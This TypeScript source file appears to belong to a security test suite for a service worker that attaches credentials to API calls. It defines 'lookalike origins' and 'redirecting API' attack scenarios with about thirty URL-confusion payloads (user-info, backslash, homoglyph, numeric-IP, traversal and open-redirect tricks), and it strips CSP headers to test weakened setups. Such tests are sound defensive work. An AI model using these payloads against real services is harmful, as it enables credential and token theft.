import type { Attack } from '../attack.js';
import type { Stage } from '../outside/stage.js';
import { weakWorker } from '../weak/weak-workers.js';
import { dropHeaders, withoutHeaders } from '../weak/weaken.js';

interface Targets {
  readonly api: string;
  readonly site: string;
  readonly neighbour: string;
}

/** Calls every address that a careless matcher takes for the API. */
async function callLookalikes({ api, site, neighbour }: Targets): Promise<void> {
  const { host, port } = new URL(api);
  const evilHost = new URL(neighbour).host;
  const urls = [
    `${neighbour}/v1/time`,
    `${site}/v1/time`,
    `${neighbour}/api/time`,
    `${neighbour}/${api}/v1/time`,
    `http://${host}@${evilHost}/v1/time`,
    `http://${host}:x@${evilHost}/v1/time`,
    `http://${host}%2f@${evilHost}/v1/time`,
    `http://${evilHost}\\@${host}/v1/time`,
    `http://${evilHost}#@${host}/v1/time`,
    `http://${evilHost}?@${host}/v1/time`,
    `http://LOCALHOST:${new URL(neighbour).port}/v1/time`,
    `http://localhost.:${new URL(neighbour).port}/v1/time`,
    `http://localhost.:${port}/v1/time`,
    `http://api.localhost:${new URL(neighbour).port}/v1/time`,
    `http://lоcalhost:${new URL(neighbour).port}/v1/time`,
    `http://127.1:${new URL(neighbour).port}/v1/time`,
    `http://0x7f000001:${new URL(neighbour).port}/v1/time`,
    `http://[::ffff:127.0.0.1]:${new URL(neighbour).port}/v1/time`,
    `//${evilHost}/v1/time`,
    `/\\${evilHost}/v1/time`,
    `/v1/../..//${evilHost}/v1/time`,
    `/api/..//${evilHost}/v1/time`,
    `/api/%2e%2e/%2e%2e//${evilHost}/`,
    `${api}/v1/redirect?to=${encodeURIComponent(`${neighbour}/v1/time`)}`,
    `${api}/v1/redirect?to=${encodeURIComponent(`${site}/v1/time`)}`,
    `/api/redirect?to=${encodeURIComponent(`${site}/v1/time`)}`,
    URL.createObjectURL(new Blob(['x'])),
    `blob:${api}/v1/time`,
    'data:text/plain,/v1/time',
  ];
  const call = async (url: string) => {
    for (const mode of ['cors', 'no-cors', 'same-origin'] as const) {
      for (const method of ['GET', 'POST']) {
        await fetch(url, { mode, method })
          .then(async (response) => attacker.take('an answer', await response.text()))
          .catch(() => undefined);
      }
    }
    new Image().src = url;
    try {
      const source = new EventSource(url);
      setTimeout(() => source.close(), 200);
      const xhr = new XMLHttpRequest();
      xhr.open('GET', url);
      xhr.send();
    } catch {
      // No such URL.
    }
  };
  await Promise.all(urls.map(call));
  // The same, seen from another address of this page.
  const before = location.href;
  history.replaceState(null, '', `/${evilHost}/`);
  const base = document.createElement('base');
  base.href = `${neighbour}/`;
  document.head.append(base);
  await Promise.all(['v1/time', './v1/time', '../v1/time', '/v1/time'].map(call));
  base.remove();
  history.replaceState(null, '', before);
  await attacker.pause(500);
}

/** An API with an open redirect, and one that names the attacker in its CORS headers. */
function withOpenRedirect(stage: Stage): void {
  stage.onApiRequest((req, res) => {
    const url = new URL(req.url ?? '/', stage.system.api.origin);
    if (url.pathname !== '/v1/redirect' || req.method === 'OPTIONS') return false;
    const cors = { 'access-control-allow-origin': stage.origin, location: url.searchParams.get('to') ?? '' };
    res.writeHead(307, cors).end();
    return true;
  });
}

async function run(stage: Stage): Promise<void> {
  withOpenRedirect(stage);
  const { site, neighbour } = stage.evil;
  await stage.run(callLookalikes, { api: stage.system.api.origin, site, neighbour });
}

function withoutPolicies(stage: Stage): void {
  withoutHeaders(stage, ['content-security-policy']);
}

export const lookalikeOrigins: Attack = {
  name: 'lookalike origins',
  tries:
    'ports, user info, encodings, trailing dots, IDN, numbers, blob:, data:, base and history: a credential to another origin',
  threat: '5.1.1',
  defence: 'parsed origins and whole path segments; the policies of page and worker',
  weakness: {
    without: 'origins compared as a whole, static routes, and both policies',
    deployment: { system: weakWorker('port-blind') },
    weaken: withoutPolicies,
  },
  run,
};

const DPOP = { refreshTokens: 'dpop', workerOptions: { dpop: 'required' } } as const;

export const redirectingApi: Attack = {
  name: 'redirecting API',
  tries: 'an API answers with a redirect to the attacker’s server: does a proof of possession go along?',
  threat: '5.1.1',
  defence: "a request with a proof is not redirected; the worker's policy lets it connect to the APIs alone",
  deployment: { system: DPOP },
  weakness: {
    without: "that rule and the worker's policy",
    deployment: { system: { ...DPOP, ...weakWorker('following') } },
    weaken: (stage) =>
      stage.onAppRequest((req, res) => {
        if (req.url === '/service-worker.js') dropHeaders(res, ['content-security-policy']);
        return false;
      }),
  },
  run,
};
